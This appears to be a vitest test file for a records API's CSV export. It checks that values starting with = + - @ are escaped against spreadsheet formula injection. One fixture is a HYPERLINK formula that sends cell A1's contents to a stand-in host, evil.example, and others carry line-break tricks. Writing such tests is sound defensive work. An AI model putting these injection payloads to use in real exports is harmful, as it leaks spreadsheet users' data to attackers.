// GET .../records?format=csv escapes every stored value whose first character is = + - @ (tab and
// CR cannot be stored: text values are trimmed), whatever follows: line breaks, CRLF, U+2028 — all
// but a plain signed number, which a spreadsheet reads as that number.
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { dataWorld, submit, user } from "./data-helpers.ts";
import { call } from "./helpers.ts";

const HOSTILE = {
  firstName: '=HYPERLINK("https://evil.example/?d="&A1,\n"click")',
  lastName: "@SUM(1;1)\r\nx",
  department: "-2+3\u2028x",
};

describe("CSV export of formula-looking values", () => {
  it("prefixes ' to each of them and leaves the rest as stored", async () => {
    const { base, ingest } = await dataWorld();
    await submit(base(), ingest, [
      user(1, HOSTILE),
      user(2, { firstName: "-2", lastName: "+33 1 23 45 67 89", department: "Sales" }),
      user(3, { firstName: "Ann", lastName: "a=b", department: "1-2" }),
    ]);
    const exported = await call("GET", `${base()}/records?format=csv`, { key: ingest });
    expect(exported.status).toBe(200);
    const text = await exported.text();
    const rows = Papa.parse<Record<string, string>>(text, {
      header: true,
      newline: "\r\n",
      skipEmptyLines: true,
    }).data;
    const byEmail = new Map(rows.map((row) => [row.emailId, row]));
    expect(byEmail.get("user1@example.com")).toMatchObject({
      firstName: `'${HOSTILE.firstName}`,
      lastName: `'${HOSTILE.lastName}`,
      department: `'${HOSTILE.department}`,
    });
    expect(byEmail.get("user2@example.com")).toMatchObject({
      firstName: "-2",
      lastName: "'+33 1 23 45 67 89",
      department: "Sales",
    });
    expect(byEmail.get("user3@example.com")).toMatchObject({
      firstName: "Ann",
      lastName: "a=b",
      department: "1-2",
    });
    expect(rows).toHaveLength(3);
    expect(text).toContain(`"'@SUM(1;1)\r\nx"`);
  });
});
